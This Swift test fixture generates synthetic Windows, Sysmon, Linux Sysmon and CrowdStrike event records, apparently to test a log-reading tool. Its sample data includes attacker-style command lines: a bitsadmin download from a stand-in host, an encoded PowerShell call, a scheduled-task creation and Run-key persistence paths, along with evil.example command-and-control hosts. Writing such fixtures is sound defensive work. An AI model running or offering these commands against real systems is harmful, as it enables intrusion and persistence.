/// Made-up records of every event that riskd reads, in the renderings that logs are mostly kept in:
/// some twenty lines for each, none of them of a real log.
package struct MadeUpLog: Sendable, CustomStringConvertible {
    /// As `SourceCapability` calls it.
    package let title: String
    package let lines: [String]

    package var description: String { title }

    package static let all: [MadeUpLog] = windows + sensors

    // MARK: values

    /// So many variants of each event.
    private static let variants = 0..<7
    private static let images = [
        #"C:\Windows\System32\bitsadmin.exe"#, #"C:\Windows\System32\cmd.exe"#,
        #"C:\Users\ann\AppData\Local\Temp\x y\run-me.exe"#, #"C:\Windows\svchost.exe"#, "System",
        #"C:\Program Files\Tool\powershell.exe"#, #"\\share.example\c$\who_am_i.e-e"#,
    ]
    private static let commandLines = [
        #"bitsadmin  /transfer job /download https://a.example/x C:\tmp\x"#,
        #""C:\Windows\System32\cmd.exe" /c "whoami & echo <done> 'x'""#, "-",
        "powershell.exe -enc SQBFAFgA\n-NoProfile", #"C:\Program Files\x.exe --resume"#, "whoami",
        #"schtasks /create /tn "Ünï kö" /tr C:\a.exe"#,
    ]
    private static let users = [
        #"CORP\ann"#, #"NT AUTHORITY\NETWORK SERVICE"#, "bob", #"CORP\svc-backup$"#, "-",
        #"NT AUTHORITY\SYSTEM"#, #"CORP\Jürgen"#,
    ]
    private static let integrity = ["High", "Low", "Medium", "System", "", "Untrusted", "Medium"]

    private static func acting(_ number: Int) -> [(String, String)] {
        [
            ("RuleName", "-"), ("UtcTime", "2024-01-10 19:00:0\(number).500"),
            ("ProcessGuid", "{a0000001-0001-0001-0001-00000000000\(number)}"),
            ("ProcessId", "\(4_700 + number)"), ("Image", images[number]), ("User", users[number]),
        ]
    }

    private static func subject(_ number: Int) -> [(String, String)] {
        [
            ("SubjectUserSid", number == 4 ? "S-1-0-0" : "S-1-5-21-1-2-3-100\(number)"),
            ("SubjectUserName", ["ann", "-", "bob", "-", "PC$", "-", "carol"][number]),
            ("ProcessId", "0x12\(number)"), ("ProcessName", images[number]),
        ]
    }

    // MARK: events

    private static let sysmonEvents: [(id: Int, data: @Sendable (Int) -> [(String, String)])] = [
        (
            1,
            { number in
                acting(number) + [
                    ("CommandLine", commandLines[number]), ("OriginalFileName", "Tool.exe"),
                    ("CurrentDirectory", #"C:\tmp\"#), ("IntegrityLevel", integrity[number]),
                    ("Hashes", "SHA256=AB\(number)2"), ("ParentProcessId", "4\(number)0"),
                    ("ParentProcessGuid", "{b0000001-0001-0001-0001-00000000000\(number)}"),
                    ("ParentImage", images[6 - number]),
                    ("ParentCommandLine", commandLines[6 - number]),
                ]
            }
        ), (2, { file($0) }), (11, { file($0) }), (15, { file($0) }), (23, { file($0) }),
        (26, { file($0) }), (12, { registry($0) }), (13, { registry($0) }),
        (14, { registry($0) + [("NewName", #"HKLM\SOFTWARE\Renamed\value\#($0)"#)] }),
        (
            3,
            { number in
                acting(number) + [
                    ("Protocol", number % 2 == 0 ? "tcp" : "udp"),
                    ("Initiated", number % 3 == 0 ? "true" : "false"),
                    ("SourceIsIpv6", number == 5 ? "true" : "false"),
                    ("SourceIp", number == 5 ? "2001:db8::1" : "192.0.2.\(number)"),
                    ("SourceHostname", number == 2 ? "-" : "pc-\(number).corp.example"),
                    ("SourcePort", "5000\(number)"), ("DestinationIp", "198.51.100.\(number)"),
                    ("DestinationHostname", number == 3 ? "" : "c2-\(number).evil.example"),
                    ("DestinationPort", "44\(number)"),
                ]
            }
        ),
        (
            22,
            { number in
                acting(number) + [
                    ("QueryName", "name-\(number).evil.example"),
                    ("QueryStatus", ["0", "9003", "3", "NXDomain", "Refused", "77", "0"][number]),
                    (
                        "QueryResults",
                        [
                            "192.0.2.1;", "type:  5 alias.evil.example;::ffff:192.0.2.9;", "-", "",
                            "type:  28 2001:db8::7;type:  16 text here;", "type: 4711 odd;", "x",
                        ][number]
                    ),
                ]
            }
        ),
    ]

    @Sendable private static func file(_ number: Int) -> [(String, String)] {
        acting(number) + [
            ("TargetFilename", #"C:\Users\ann\Downloads\invoice-\#(number).scr"#),
            (
                "CreationUtcTime",
                number % 2 == 0
                    ? "2024-01-10 19:00:0\(number).500" : "2023-12-31 23:59:59.\(number)00"
            ), ("Hashes", number == 1 ? "" : "MD5=00\(number)F"), ("Hash", "SHA1=1\(number)"),
        ]
    }

    @Sendable private static func registry(_ number: Int) -> [(String, String)] {
        let types = [
            "CreateKey", "DeleteKey", "DeleteValue", "SetValue", "RenameValue", "RenameKey", "x",
        ]
        let paths = [
            #"HKLM\System\CurrentControlSet\Services\svc-x\ImagePath"#,
            #"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\updater"#,
            #"HKU\S-1-5-21\Software\Classes\ms-settings\shell"#, #"HKCR\odd"#, "NoBackslash",
            #"\REGISTRY\MACHINE\SOFTWARE\key"#, #"HKLM\SYSTEM\x"#,
        ]
        let details = [
            "DWORD (0x00000001)", "QWORD (0x00000000-0x00000002)", #"C:\tmp\run.exe"#, "see (it)",
            "Binary Data", "", "DWORD (0x00000000)",
        ]
        return acting(number) + [
            ("EventType", types[number]), ("TargetObject", paths[number]),
            ("Details", details[number]),
        ]
    }

    private static let securityEvents: [(id: Int, data: @Sendable (Int) -> [(String, String)])] = [
        (
            4_688,
            { number in
                subject(number) + [
                    ("NewProcessName", images[number]), ("NewProcessId", "0x1\(number)7"),
                    ("CommandLine", commandLines[number]),
                    ("ParentProcessName", images[6 - number]),
                    ("TargetUserName", ["-", "dave", "-", "-", "-", "erin", ""][number]),
                    ("TargetUserSid", number == 3 ? "S-1-5-18" : "S-1-0-0"),
                ]
            }
        ),
        (
            4_657,
            { number in
                subject(number) + [
                    ("ObjectName", #"\REGISTRY\MACHINE\SOFTWARE\Policies\key-\#(number)"#),
                    ("ObjectValueName", "value-\(number)"), ("NewValueType", "%%1873"),
                    ("NewValue", "data \(number)"),
                    (
                        "OperationType",
                        ["%%1904", "%%1905", "%%1906", "%%9", "", "-", "%%1905"][number]
                    ),
                ]
            }
        ),
        (
            4_663,
            { number in
                subject(number) + [
                    ("ObjectType", number == 6 ? "Key" : "File"),
                    ("ObjectName", #"C:\secret\plan-\#(number).docx"#),
                    (
                        "AccessMask",
                        ["0x10000", "0x40000", "0x2", "0x1", "0x100000", "x", "0x1"][number]
                    ),
                ]
            }
        ),
        (
            5_156,
            { number in
                [
                    ("ProcessID", "4\(number)2"),
                    ("Application", #"\device\harddiskvolume2\tool-\#(number).exe"#),
                    ("Direction", number % 2 == 0 ? "%%14592" : "%%14593"),
                    ("SourceAddress", number == 4 ? "2001:db8::4" : "192.0.2.4\(number)"),
                    ("SourcePort", "80\(number)"), ("DestAddress", "198.51.100.4\(number)"),
                    ("DestPort", "5\(number)"),
                    ("Protocol", ["6", "17", "1", "2", "6", "17", "6"][number]),
                ]
            }
        ),
    ]

    // MARK: renderings

    private static let windows: [MadeUpLog] =
        sysmonEvents.flatMap { event in
            [
                MadeUpLog(
                    title: "Sysmon event \(event.id)",
                    lines: variants.flatMap { number in
                        renderings(
                            Header(
                                "Microsoft-Windows-Sysmon",
                                "Microsoft-Windows-Sysmon/Operational", event.id, number),
                            event.data(number))
                    }),
                MadeUpLog(
                    title: "Sysmon for Linux event \(event.id)",
                    lines: variants.map { number in
                        xml(
                            Header(
                                "Linux-Sysmon", "Linux-Sysmon/Operational", event.id, number),
                            event.data(number).map {
                                (
                                    $0.0,
                                    $0.1.replacing(#"C:\"#, with: "/").replacing(#"\"#, with: "/")
                                )
                            })
                    }),
            ]
        }
        + securityEvents.map { event in
            MadeUpLog(
                title: "Windows Security event \(event.id)",
                lines: variants.flatMap { number in
                    renderings(
                        Header(
                            "Microsoft-Windows-Security-Auditing", "Security", event.id, number),
                        event.data(number))
                })
        }

    private struct Header {
        let provider: String
        let channel: String
        let id: Int
        let keywords: String
        let time: String
        let computer: String

        init(_ provider: String, _ channel: String, _ id: Int, _ number: Int) {
            self.provider = provider
            self.channel = channel
            self.id = id
            keywords = number == 1 ? "0x8010000000000000" : "0x8020000000000000"
            time = "2024-01-10T19:00:0\(number).250Z"
            computer = "pc-\(number).corp.example"
        }
    }

    private static func renderings(
        _ header: Header, _ data: [(String, String)]
    ) -> [String] { [xml(header, data), flat(header, data), winlogbeat(header, data)] }

    private static func xml(_ header: Header, _ data: [(String, String)]) -> String {
        "<Event xmlns='urn:x'><System><Provider Name='\(header.provider)'/>"
            + "<EventID>\(header.id)</EventID><Keywords>\(header.keywords)</Keywords>"
            + "<TimeCreated SystemTime='\(header.time)'/><Channel>\(header.channel)</Channel>"
            + "<Computer>\(header.computer)</Computer><Security UserID='S-1-5-18'/></System>"
            + "<EventData>\(ProcessStart.xmlData(data))</EventData></Event>"
    }

    private static func flat(_ header: Header, _ data: [(String, String)]) -> String {
        JSONValue.object(
            [
                ("EventTime", .string(header.time)), ("Hostname", .string(header.computer)),
                ("EventID", .number("\(header.id)")), ("SourceName", .string(header.provider)),
                ("Channel", .string(header.channel)), ("Keywords", .string(header.keywords)),
            ] + data.map { ($0.0, .string($0.1)) }
        ).text()
    }

    private static func winlogbeat(_ header: Header, _ data: [(String, String)]) -> String {
        JSONValue.object([
            ("@timestamp", .string(header.time)), ("event", ["code": .string("\(header.id)")]),
            (
                "winlog",
                [
                    "event_id": .string("\(header.id)"), "channel": .string(header.channel),
                    "provider_name": .string(header.provider),
                    "computer_name": .string(header.computer),
                    "event_data": .object(data.map { ($0.0, .string($0.1)) }),
                ]
            ),
        ]).text()
    }

    private static let sensors: [MadeUpLog] =
        ["ProcessRollup2", "SyntheticProcessRollup2"].map { type in
            MadeUpLog(
                title: "CrowdStrike \(type)",
                lines: ["Win", "Mac", "Lin"].flatMap { platform in
                    variants.map { sensor(type, platform, $0) }
                })
        }

    private static func sensor(_ type: String, _ platform: String, _ number: Int) -> String {
        var members: [(String, JSONValue)] = [
            ("event_simpleName", .string(type)), ("event_platform", .string(platform)),
            ("timestamp", .string("170491320\(number)500")), ("aid", .string("a\(number)")),
            ("cid", "c1"), ("CommandLine", .string(commandLines[number])),
            (
                "ImageFileName",
                .string(
                    platform == "Win"
                        ? #"\Device\HarddiskVolume2"# + images[number].dropFirst(2)
                        : "/usr/bin/tool-\(number)")
            ),
            ("ParentBaseFileName", "cmd.exe"), ("TargetProcessId", .string("90\(number)")),
            ("RawProcessId", .string("47\(number)")), ("ParentProcessId", "800"),
            (
                "IntegrityLevel",
                .string(["0", "4096", "8192", "8448", "12288", "16384", "20480"][number])
            ),
            ("SHA256HashData", .string("ff\(number)")),
        ]
        if number % 2 == 0 { members.append(("UserName", .string(users[number]))) }
        if number % 3 == 0 { members.append(("ComputerName", .string("pc-\(number)"))) }
        if number == 5 { members.append(("UserSid", "S-1-5-21-9")) }
        return JSONValue.object(members).text()
    }
}
